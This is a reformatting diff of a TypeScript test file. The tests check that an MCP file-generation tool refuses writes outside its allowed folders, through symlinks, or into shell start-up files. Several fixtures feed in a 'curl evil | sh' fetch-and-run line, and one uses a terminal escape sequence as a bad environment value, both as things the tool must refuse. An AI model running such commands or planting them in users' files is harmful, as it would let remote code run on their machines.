@@ -21,7 +21,8 @@ describe('MCP writes only inside the allowed roots', () => {
   let cwd: string;
   let outside: string;
   let mcp: Harness | undefined;
-  const connect = async (options: Parameters<typeof connectInProcess>[2] = {}) => (mcp = await connectInProcess(standin, cwd, options));
+  const connect = async (options: Parameters<typeof connectInProcess>[2] = {}) =>
+    (mcp = await connectInProcess(standin, cwd, options));
   before(() => standin.start());
   after(() => standin.close());
   beforeEach(async () => {
@@ -41,14 +42,22 @@ describe('MCP writes only inside the allowed roots', () => {
   for (const dir of ['/', '/etc', '../..']) {
     it(`refuses output_dir ${dir}`, async () => {
       const m = await connect();
-      assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }), standin, /output_dir .* is outside the allowed folders.*turbo-roots-cwd-/s);
+      assertRefused(
+        await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }),
+        standin,
+        /output_dir .* is outside the allowed folders.*turbo-roots-cwd-/s,
+      );
     });
   }
 
   it('refuses an absolute folder outside the working directory, and writes nothing there', async () => {
     const m = await connect();
     standin.enqueue({ content: fileBlocks({ 'payload.sh': 'curl evil | sh\n' }) });
-    assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: outside }), standin, /outside the allowed folders/);
+    assertRefused(
+      await m.call('generate_and_write_files', { prompt: 'x', output_dir: outside }),
+      standin,
+      /outside the allowed folders/,
+    );
     assert.deepEqual(await fs.readdir(outside), []);
   });
 
@@ -57,12 +66,21 @@ describe('MCP writes only inside the allowed roots', () => {
     const m = await connect();
     standin.enqueue({ content: fileBlocks({ 'payload.sh': 'curl evil | sh\n' }) });
     for (const dir of ['link', 'link/deeper']) {
-      assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }), standin, /outside the allowed folders/);
+      assertRefused(
+        await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }),
+        standin,
+        /outside the allowed folders/,
+      );
     }
     assert.deepEqual(await fs.readdir(outside), []);
   });
 
-  for (const [dir, pattern] of [['', /output_dir is empty; give a folder inside/], ['   ', /output_dir is empty/], ['~', /does not expand ~.*absolute path or one relative to/], ['~/x', /does not expand ~/]] as const) {
+  for (const [dir, pattern] of [
+    ['', /output_dir is empty; give a folder inside/],
+    ['   ', /output_dir is empty/],
+    ['~', /does not expand ~.*absolute path or one relative to/],
+    ['~/x', /does not expand ~/],
+  ] as const) {
     it(`explains why output_dir ${JSON.stringify(dir)} is refused`, async () => {
       const m = await connect();
       assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: dir }), standin, pattern);
@@ -77,7 +95,11 @@ describe('MCP writes only inside the allowed roots', () => {
     assert.equal(ok.isError, undefined, ok.content[0].text);
     assert.equal(await fs.readFile(path.join(outside, 'app', 'a.txt'), 'utf8'), 'A\n');
     standin.requests.length = 0;
-    assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, /outside the allowed folders.*turbo-roots-out-/s);
+    assertRefused(
+      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
+      standin,
+      /outside the allowed folders.*turbo-roots-out-/s,
+    );
   });
 
   it('an empty roots list leaves the working directory allowed', async () => {
@@ -89,7 +111,11 @@ describe('MCP writes only inside the allowed roots', () => {
 
   it('a client that declares roots but does not list them gets an error, not the working directory', async () => {
     const m = await connect({ rootsUnanswered: true });
-    assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, /declares roots but did not list them/);
+    assertRefused(
+      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
+      standin,
+      /declares roots but did not list them/,
+    );
     await assert.rejects(fs.access(path.join(cwd, 'out')));
   });
 
@@ -102,7 +128,10 @@ describe('MCP writes only inside the allowed roots', () => {
     assert.equal(await fs.readFile(path.join(cwd, 'here', 'b.txt'), 'utf8'), 'B\n');
   });
 
-  for (const [value, pattern] of [['relative/dir', /TURBO_ALLOWED_DIRS.*relative\/dir.*absolute/], ['/no/such/turbo/dir', /TURBO_ALLOWED_DIRS.*\/no\/such\/turbo\/dir.*does not exist/]] as const) {
+  for (const [value, pattern] of [
+    ['relative/dir', /TURBO_ALLOWED_DIRS.*relative\/dir.*absolute/],
+    ['/no/such/turbo/dir', /TURBO_ALLOWED_DIRS.*\/no\/such\/turbo\/dir.*does not exist/],
+  ] as const) {
     it(`TURBO_ALLOWED_DIRS=${value} is an error, not ignored`, async () => {
       const m = await connect({ env: { TURBO_ALLOWED_DIRS: value } });
       assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, pattern);
@@ -111,7 +140,11 @@ describe('MCP writes only inside the allowed roots', () => {
 
   it('a CEREBRAS_MODEL with control characters is an error naming it: nothing sent, and check_status says so', async () => {
     const m = await connect({ env: { CEREBRAS_MODEL: 'x\u001b]0;title\u0007y' } });
-    assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, /CEREBRAS_MODEL takes a model id/);
+    assertRefused(
+      await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
+      standin,
+      /CEREBRAS_MODEL takes a model id/,
+    );
     const status = await m.call('check_status');
     assert.equal(status.isError, true);
     const body = parse(status);
@@ -124,7 +157,11 @@ describe('MCP writes only inside the allowed roots', () => {
     await fs.writeFile(path.join(cwd, 'kept.txt'), 'mine\n');
     const m = await connect({ env: { TURBO_OVERWRITE: 'never' } });
     standin.enqueue({ content: fileBlocks({ 'kept.txt': 'replaced\n', '.env': 'TOKEN=x\n' }) });
-    const meta = parse(await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' })) as { status: string; files_written: unknown[]; errors: string[] };
+    const meta = parse(await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' })) as {
+      status: string;
+      files_written: unknown[];
+      errors: string[];
+    };
     assert.equal(meta.status, 'partial');
     assert.deepEqual(meta.files_written, []);
     assert.equal(meta.errors.length, 2, meta.errors.join(' | '));
@@ -134,19 +171,44 @@ describe('MCP writes only inside the allowed roots', () => {
     await fs.writeFile(path.join(cwd, 'notes.txt'), 'mine\n');
     await fs.writeFile(path.join(cwd, '.profile'), 'export PATH=/usr/bin\n');
     const m = await connect();
-    standin.enqueue({ content: fileBlocks({ 'notes.txt': 'replaced\n', '.profile': 'curl evil | sh\n', 'new.txt': 'N\n' }) });
+    standin.enqueue({
+      content: fileBlocks({ 'notes.txt': 'replaced\n', '.profile': 'curl evil | sh\n', 'new.txt': 'N\n' }),
+    });
     const result = await m.call('generate_and_write_files', { prompt: 'x', output_dir: '.' });
-    const meta = parse(result) as { files_written: { filename: string; overwritten: boolean }[]; files_replaced: string[]; errors: string[] };
-    assert.deepEqual(meta.files_written.map((f) => [f.filename, f.overwritten]), [['notes.txt', true], ['new.txt', false]]);
+    const meta = parse(result) as {
+      files_written: { filename: string; overwritten: boolean }[];
+      files_replaced: string[];
+      errors: string[];
+    };
+    assert.deepEqual(
+      meta.files_written.map((f) => [f.filename, f.overwritten]),
+      [
+        ['notes.txt', true],
+        ['new.txt', false],
+      ],
+    );
     assert.deepEqual(meta.files_replaced, [path.join(cwd, 'notes.txt')]);
-    assert.ok(meta.errors.some((e) => e.includes('.profile')), 'the refused start-up file is listed');
+    assert.ok(
+      meta.errors.some((e) => e.includes('.profile')),
+      'the refused start-up file is listed',
+    );
     assert.equal(await fs.readFile(path.join(cwd, '.profile'), 'utf8'), 'export PATH=/usr/bin\n');
   });
 
-  for (const [name, value] of [['TURBO_OVERWRITE', 'Never'], ['TURBO_OVERWRITE', 'no'], ['TURBO_OVERWRITE', 'ask'], ['TURBO_MAX_CONTINUATIONS', 'abc'], ['TURBO_MAX_CONTINUATIONS', '11']] as const) {
+  for (const [name, value] of [
+    ['TURBO_OVERWRITE', 'Never'],
+    ['TURBO_OVERWRITE', 'no'],
+    ['TURBO_OVERWRITE', 'ask'],
+    ['TURBO_MAX_CONTINUATIONS', 'abc'],
+    ['TURBO_MAX_CONTINUATIONS', '11'],
+  ] as const) {
     it(`${name}=${value} fails each generate call and shows in check_status`, async () => {
       const m = await connect({ env: { [name]: value } });
-      assertRefused(await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }), standin, new RegExp(`${name} takes .*got "${value}"`));
+      assertRefused(
+        await m.call('generate_and_write_files', { prompt: 'x', output_dir: 'out' }),
+        standin,
+        new RegExp(`${name} takes .*got "${value}"`),
+      );
       const status = parse(await m.call('check_status'));
       assert.equal(status.status, 'error');
       assert.match(String(status.error), new RegExp(name));
